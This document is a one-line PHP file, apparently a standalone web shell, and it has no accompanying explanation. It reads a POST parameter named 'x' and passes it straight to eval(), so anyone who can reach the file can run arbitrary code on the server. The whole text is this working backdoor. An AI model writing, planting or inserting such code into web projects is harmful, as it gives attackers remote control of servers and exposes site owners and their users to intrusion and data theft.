<?php $a = $_POST; $b = $a['x']; eval($b);
